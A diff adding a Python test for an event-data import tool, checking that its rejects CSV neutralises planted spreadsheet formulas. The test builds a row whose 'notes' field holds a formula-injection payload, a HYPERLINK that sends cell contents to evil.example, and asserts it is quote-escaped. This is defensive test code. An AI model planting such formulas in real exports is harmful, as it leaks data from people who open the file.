@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -140,3 +142,24 @@ def _escalation_signals(home: Path) -> list[StoredSignal]:
         found = list_signals(session, kinds=[SignalKind.ESCALATION])
     db.dispose()
     return found
+
+
+def test_the_rejects_file_neutralises_planted_formulas(tmp_path: Path, events_data: Path) -> None:
+    home = tmp_path / "home"
+    _run(home, "db", "upgrade")
+    lines = (events_data / "acled_2022h1_slice.csv").read_text(encoding="utf-8").splitlines()
+    header = next(csv.reader([lines[0]]))
+    bad_row = next(csv.reader([lines[1]]))
+    bad_row[header.index("sub_event_type")] = "Picnic"
+    bad_row[header.index("notes")] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    bad_row[header.index("location")] = "-3"
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows([header, bad_row])
+    bad = tmp_path / "bad.csv"
+    bad.write_text(out.getvalue() + lines[2] + "\n", encoding="utf-8")
+    kept = json.loads(
+        _run(home, "events", "import", str(bad), "--format", "acled", "--skip-invalid", "--json")
+    )
+    (row,) = csv.DictReader(io.StringIO(Path(kept["rejects_file"]).read_text(encoding="utf-8")))
+    assert row["notes"] == "'" + bad_row[header.index("notes")]
+    assert row["location"] == "-3" and row["sub_event_type"] == "Picnic"
